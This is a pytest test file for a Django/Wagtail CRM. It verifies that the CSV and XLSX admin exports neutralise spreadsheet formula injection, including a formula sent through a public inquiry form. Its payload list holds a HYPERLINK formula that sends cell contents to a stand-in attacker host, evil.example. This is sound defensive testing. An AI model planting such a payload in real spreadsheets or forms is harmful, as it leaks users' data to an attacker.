"""No CSV export cell runs as a formula: text beginning =, +, -, @, tab or CR gets an apostrophe.

Every export is downloaded through the admin by a user allowed to see it and parsed with csv.
"""

import csv
import io

import openpyxl
import pytest
from django.core.cache import cache
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from seutu_crm.importers.organisations import import_organisations
from seutu_crm.models import Lead, Organisation, Role
from seutu_crm.pipeline_admin.viewsets import (
    ActivityViewSet,
    ContactViewSet,
    LeadViewSet,
    TaskViewSet,
)
from seutu_crm.services.roles import BUSINESS_DEVELOPERS
from seutu_crm.spreadsheets import FormulaSafeExportMixin
from seutu_crm.viewsets import OrganisationViewSet
from seutu_pages.inquiry_admin import InvestInInquiryViewSet
from seutu_pages.models import InvestInInquiry
from tests.crm.admin_users import coordinator, groups, town  # noqa: F401  (fixtures)
from tests.factories import (
    ActivityFactory,
    ContactFactory,
    LeadFactory,
    OrganisationFactory,
    TaskFactory,
    TownMembershipFactory,
    UserFactory,
)
from tests.pages import site_tree

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/steal?d="&A2,"Click here")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\tTAB",
    "\rCR",
]


def inquiry(town, payload):
    return InvestInInquiry.objects.create(
        town=town, person_name="Anna Andersson", organisation_name=payload,
        email="anna@example.fi", message="Hello", consent=True, consent_text="OK",
        language="fi",
    )


# export: (list URL name, viewset, the exported field holding the payload, record maker)
EXPORTS = {
    "organisations": ("wagtailsnippets_seutu_crm_organisation:list", OrganisationViewSet, "name",
                      lambda town, p: OrganisationFactory(town=town, name=p)),
    "leads": ("seutu_leads:list", LeadViewSet, "next_step",
              lambda town, p: LeadFactory(town=town, next_step=p)),
    "contacts": ("seutu_contacts:list", ContactViewSet, "role",
                 lambda town, p: ContactFactory(town=town, organisation__town=town, role=p)),
    "activities": ("seutu_activities:list", ActivityViewSet, "text",
                   lambda town, p: ActivityFactory(lead=LeadFactory(town=town), text=p)),
    "tasks": ("seutu_tasks:list", TaskViewSet, "title",
              lambda town, p: TaskFactory(lead=LeadFactory(town=town), title=p)),
    "inquiries": ("wagtailsnippets_seutu_pages_investininquiry:list", InvestInInquiryViewSet,
                  "organisation_name", inquiry),
}


def download(client, url_name, export="csv"):
    response = client.get(reverse(url_name), {"export": export})
    assert response.status_code == 200, response
    return b"".join(response.streaming_content)


def csv_column(content, viewset, field):
    """The cells of ``field``'s column below the heading, as csv reads them."""
    header, *rows = csv.reader(io.StringIO(content.decode(), newline=""))
    index = list(viewset.list_export).index(field)
    assert len(header) == len(viewset.list_export)
    return [row[index] for row in rows]


@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_text_that_would_run_as_a_formula_is_exported_with_an_apostrophe(
    client, coordinator, town, export
):
    url_name, viewset, field, make = EXPORTS[export]
    for payload in PAYLOADS:
        make(town, payload)
    client.force_login(coordinator)
    cells = csv_column(download(client, url_name), viewset, field)
    assert sorted(cells) == sorted(f"'{payload}" for payload in PAYLOADS)


@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_ordinary_text_is_exported_as_it_is(client, coordinator, town, export):
    url_name, viewset, field, make = EXPORTS[export]
    make(town, "Raahen Teräs Oy, 2 = 1+1")
    client.force_login(coordinator)
    assert csv_column(download(client, url_name), viewset, field) == ["Raahen Teräs Oy, 2 = 1+1"]


def test_a_negative_number_from_a_number_field_stays_a_number(client, coordinator, town):
    OrganisationFactory(town=town, name="Länsi Oy", latitude=64.7, longitude=-2.5)
    client.force_login(coordinator)
    content = download(client, "wagtailsnippets_seutu_crm_organisation:list")
    assert csv_column(content, OrganisationViewSet, "longitude") == ["-2.5"]


def test_the_xlsx_export_keeps_formula_text_as_plain_text_cells(client, coordinator, town):
    for payload in PAYLOADS[:4]:
        OrganisationFactory(town=town, name=payload)
    client.force_login(coordinator)
    content = download(client, "wagtailsnippets_seutu_crm_organisation:list", "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert sorted(cell.value for cell in names) == sorted(PAYLOADS[:4])  # no apostrophe
    assert {cell.data_type for cell in names} == {"s"}  # text, not "f" (formula)


def test_an_exported_formula_imports_back_unchanged_and_keeps_one_apostrophe(
    client, coordinator, town
):
    OrganisationFactory(town=town, name=PAYLOADS[0], business_id=None)
    client.force_login(coordinator)
    exported = download(client, "wagtailsnippets_seutu_crm_organisation:list")
    report = import_organisations(exported, "organisations.csv")
    assert report.ok, report.errors
    assert [o.action for o in report.outcomes] == ["unchanged"]
    assert Organisation.objects.get().name == PAYLOADS[0]
    again = download(client, "wagtailsnippets_seutu_crm_organisation:list")
    assert csv_column(again, OrganisationViewSet, "name") == [f"'{PAYLOADS[0]}"]


# --- every export, now and later -----------------------------------------------------------


def admin_export_views():
    """The view classes of our apps' admin URLs that can export a spreadsheet."""
    found = set()

    def walk(patterns):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns)
            elif isinstance(pattern, URLPattern):
                view_class = getattr(pattern.callback, "view_class", None)
                if view_class and issubclass(view_class, SpreadsheetExportMixin):
                    found.add(view_class)

    walk(get_resolver().url_patterns)
    return {view for view in found if view.__module__.startswith("seutu_")}


def test_every_export_of_the_crm_and_pages_apps_is_formula_safe():
    views = {v for v in admin_export_views() if not v.__module__.startswith("seutu_search")}
    listings = {viewset.index_view_class for _, viewset, _, _ in EXPORTS.values()}
    assert listings <= views  # the walk finds the six exports above, and more
    unsafe = sorted(v.__qualname__ for v in views if not issubclass(v, FormulaSafeExportMixin))
    assert not unsafe, f"CSV exports without FormulaSafeExportMixin: {unsafe}"


def test_every_export_of_the_search_app_is_formula_safe():
    views = {v for v in admin_export_views() if v.__module__.startswith("seutu_search")}
    assert views
    assert all(issubclass(view, FormulaSafeExportMixin) for view in views)


# --- a visitor's formula, from the public form to the business developer's export -----------


@pytest.fixture
def invest_in():
    cache.clear()  # the form's rate limit counts in the cache
    yield site_tree.invest_in_page(site_tree.town_page(site_tree.network_home()))
    cache.clear()


def test_a_formula_sent_through_the_invest_in_form_is_neutralised_in_the_exports(
    client, invest_in, groups
):
    response = client.post(invest_in.url, {
        "name": "Anna Andersson", "organisation": PAYLOADS[0], "business_id": "",
        "email": "anna@nordichydrogen.example", "phone": "+358 40 123 4567",
        "message": "We look for a site.", "consent": "on", "homepage": "",
    })
    assert response.status_code == 302
    assert Lead.objects.get().organisation.name == PAYLOADS[0]
    developer = UserFactory(username="town-bd")
    developer.groups.add(groups[BUSINESS_DEVELOPERS])
    TownMembershipFactory(user=developer, town=invest_in.town, role=Role.BUSINESS_DEVELOPER)
    client.force_login(developer)
    leads = download(client, "seutu_leads:list")
    assert csv_column(leads, LeadViewSet, "organisation.name") == [f"'{PAYLOADS[0]}"]
    organisations = download(client, "wagtailsnippets_seutu_crm_organisation:list")
    assert csv_column(organisations, OrganisationViewSet, "name") == [f"'{PAYLOADS[0]}"]
